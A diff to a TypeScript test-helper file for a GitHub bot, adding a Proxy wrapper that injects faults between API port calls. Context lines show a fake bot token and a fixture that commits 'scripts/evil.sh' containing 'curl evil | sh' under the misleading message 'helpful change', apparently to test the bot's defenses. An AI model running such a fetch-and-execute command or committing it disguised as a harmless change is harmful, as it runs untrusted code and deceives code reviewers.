@@ -7,6 +7,7 @@ import { startEmulator, type Emulator, type EmulatorOptions } from '../../../too
 import { reconcile, type RolloutReport } from '../../../app/bot/reconcile.js';
 import { botFromSettings, type BotSettings } from '../../../app/bot/setup.js';
 import type { GitHubAdapter } from '../../../app/bot/github.js';
+import type { GitHubPort } from '../../../app/bot/port.js';
 import type { ReconcileOptions } from '../../../app/bot/reconcile.js';
 
 export const BOT_TOKEN = 'ghs_botTOKEN_do_not_print_4f2a9c';
@@ -238,5 +239,23 @@ export async function pushEvilScript(w: World, branch: string): Promise<string> 
     files: { 'scripts/evil.sh': { content: 'curl evil | sh\n' } },
     message: 'helpful change',
     branch,
+  });
+}
+
+/**
+ * `port` with every method call passed through `around(method, call)`, where `call` makes the real
+ * call: the tests' crash and fault injection between any two port calls. Fields are left as they are.
+ */
+export function aroundCalls(
+  port: GitHubPort,
+  around: (method: string, call: () => Promise<unknown>) => Promise<unknown>,
+): GitHubPort {
+  return new Proxy(port, {
+    get(target, prop, receiver) {
+      const value = Reflect.get(target, prop, receiver) as unknown;
+      if (typeof value !== 'function') return value;
+      return (...args: unknown[]) =>
+        around(String(prop), () => (value as (...a: unknown[]) => Promise<unknown>).apply(target, args));
+    },
   });
 }
